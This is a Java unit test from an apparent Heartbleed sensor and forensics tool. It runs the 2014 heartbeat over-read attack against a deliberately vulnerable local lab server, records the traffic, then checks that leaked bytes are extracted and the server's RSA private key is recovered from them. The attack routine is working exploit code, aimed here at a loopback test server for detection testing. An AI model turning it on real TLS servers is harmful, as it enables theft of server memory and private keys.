package io.heartguard.sensor;

import static org.assertj.core.api.Assertions.assertThat;

import io.heartguard.keys.KeysCommand;
import io.heartguard.lab.LabOptions;
import io.heartguard.lab.LabServer;
import io.heartguard.wire.Bytes;
import io.heartguard.wire.handshake.ClientHellos;
import io.heartguard.wire.handshake.HandshakeMessage;
import io.heartguard.wire.handshake.HandshakeReader;
import io.heartguard.wire.handshake.HandshakeType;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.heartbeat.HeartbeatProbe;
import io.heartguard.wire.record.ContentType;
import io.heartguard.wire.record.ProtocolVersion;
import io.heartguard.wire.record.RecordReader;
import io.heartguard.wire.record.TlsRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/**
 * What did an attacker get? A capture of the lab attacked with full-size (payload_length 65535) plaintext requests:
 * {@code sensor --extract-leaks} writes the leaked bytes (mode 600) with each one's flow and time, and
 * {@code heartguard keys} over that file finds the lab's private key and names the flow that carried it.
 */
class ExtractLeaksKeyTest {
  @Test
  void aRecordedFullSizeAttackOnTheLabGaveAwayItsKeyAndKeysSaysWhichFlow(@TempDir Path dir) throws Exception {
    Path capture = dir.resolve("lab-full-size.pcap");
    Path certificate = dir.resolve("lab.der");
    try (LabServer lab = LabServer.start(LabOptions.vulnerable().withoutLog());
        ServerSocket relay = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      Files.write(certificate, lab.identity().chain().getFirst().toByteArray());
      List<byte[][]> recorded = Collections.synchronizedList(new ArrayList<>());
      Thread recorder = Thread.ofVirtual().start(() -> relay(relay, lab.address().getPort(), recorded));
      int leaked = fullSizeAttack(relay.getLocalPort());
      recorder.join();
      assertThat(leaked).as("heartbeat response bytes the attacker read").isGreaterThan(16_000);
      TcpConversation tcp = new TcpConversation(new byte[] {10, 0, 0, 2}, 50_123, new byte[] {10, 0, 0, 1}, 443);
      tcp.open();
      for (byte[][] chunk : recorded) {
        tcp.send(chunk[0][0] == 1, chunk[1]);
      }
      tcp.close();
      Files.write(capture, tcp.pcap());
    }
    Path leaks = dir.resolve("leaks.bin");
    ByteArrayOutputStream alerts = new ByteArrayOutputStream();
    ByteArrayOutputStream sensorErr = new ByteArrayOutputStream();
    int sensorExit = new CommandLine(new SensorCommand(new ByteArrayInputStream(new byte[0]), alerts,
        new PrintStream(sensorErr, true, StandardCharsets.UTF_8)))
        .execute("-r", capture.toString(), "--extract-leaks", leaks.toString());

    assertThat(sensorExit).isEqualTo(SensorCommand.ALERTS);
    assertThat(Files.getPosixFilePermissions(leaks)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
    assertThat(new String(Files.readAllBytes(leaks), StandardCharsets.ISO_8859_1))
        .startsWith("# heartguard leak flow=").contains(" client=10.0.0.2:50123 server=10.0.0.1:443 time=2014-04-07T");
    assertThat(alerts.toString(StandardCharsets.UTF_8) + sensorErr).doesNotContain("BEGIN", "PRIVATE KEY");

    Path key = dir.resolve("recovered.pem");
    StringWriter keysErr = new StringWriter();
    int keysExit = new CommandLine(new KeysCommand()).setErr(new PrintWriter(keysErr))
        .execute("--cert", certificate.toString(), "--out", key.toString(), leaks.toString());

    assertThat(keysExit).isEqualTo(1);
    assertThat(keysErr.toString()).contains("found a 1024-bit prime factor of the certificate's 2048-bit modulus in "
        + leaks).contains("(leaked in flow=").contains("client=10.0.0.2:50123 server=10.0.0.1:443 time=2014-04-07T")
        .contains("little-endian; private key written to " + key);
    assertThat(Files.readString(key)).startsWith("-----BEGIN PRIVATE KEY-----");
  }

  /**
   * The 2014 attack: a ClientHello, the server's flight to ServerHelloDone, then one heartbeat request of one
   * payload byte claiming 65535; returns the heartbeat bytes read back before the lab went quiet or closed.
   */
  private static int fullSizeAttack(int port) throws Exception {
    try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
      s.setSoTimeout(2_000);
      s.getOutputStream().write(TlsRecord.fragmentInto(ContentType.HANDSHAKE, ProtocolVersion.TLS1_0, Bytes.of(
          ClientHellos.like2014(ProtocolVersion.TLS1_1, null, new SplittableRandom(7)).toMessage().toByteArray())));
      InputStream in = s.getInputStream();
      RecordReader records = new RecordReader();
      HandshakeReader handshakes = new HandshakeReader();
      byte[] chunk = new byte[16384];
      boolean done = false;
      while (!done) {
        int n = in.read(chunk);
        assertThat(n).as("the lab's flight").isPositive();
        records.feed(chunk, 0, n);
        for (TlsRecord r = records.next(); r != null; r = records.next()) {
          handshakes.feed(r.fragment());
          for (HandshakeMessage m = handshakes.next(); m != null; m = handshakes.next()) {
            done |= m.type() == HandshakeType.SERVER_HELLO_DONE;
          }
        }
      }
      byte[] request = HeartbeatProbe.withDeclaredPayloadLength(HeartbeatMessage.request(Bytes.of((byte) 'A')), 0xffff);
      s.getOutputStream().write(new TlsRecord(ContentType.HEARTBEAT, ProtocolVersion.TLS1_1, Bytes.of(request)).toByteArray());
      int heartbeatBytes = 0;
      // 65554 bytes of answer: four full records leave the 4 KB write buffer at once, the 23-byte tail stays in it.
      while (heartbeatBytes < 4 * 16384) {
        int n = in.read(chunk);
        if (n < 0) {
          break;
        }
        records.feed(chunk, 0, n);
        for (TlsRecord r = records.next(); r != null; r = records.next()) {
          if (r.type() == ContentType.HEARTBEAT) {
            heartbeatBytes += r.fragment().size();
          }
        }
      }
      return heartbeatBytes;
    }
  }

  /** One connection through: every chunk forwarded and recorded as {direction, bytes}, in order. */
  private static void relay(ServerSocket relay, int upstreamPort, List<byte[][]> recorded) {
    try (Socket client = relay.accept(); Socket upstream = new Socket(InetAddress.getLoopbackAddress(), upstreamPort)) {
      Thread up = Thread.ofVirtual().start(() -> pipe(client, upstream, true, recorded));
      pipe(upstream, client, false, recorded);
      up.join();
    } catch (Exception e) {
      throw new AssertionError("the recording relay failed", e);
    }
  }

  private static void pipe(Socket from, Socket to, boolean fromClient, List<byte[][]> recorded) {
    try {
      InputStream in = from.getInputStream();
      byte[] chunk = new byte[16384];
      for (int n; (n = in.read(chunk)) > 0; ) {
        synchronized (recorded) {
          recorded.add(new byte[][] {{(byte) (fromClient ? 1 : 0)}, Arrays.copyOf(chunk, n)});
          to.getOutputStream().write(chunk, 0, n);
        }
      }
      to.shutdownOutput();
    } catch (java.io.IOException closed) {
      // one side closed: the relay ends with it
    }
  }
}
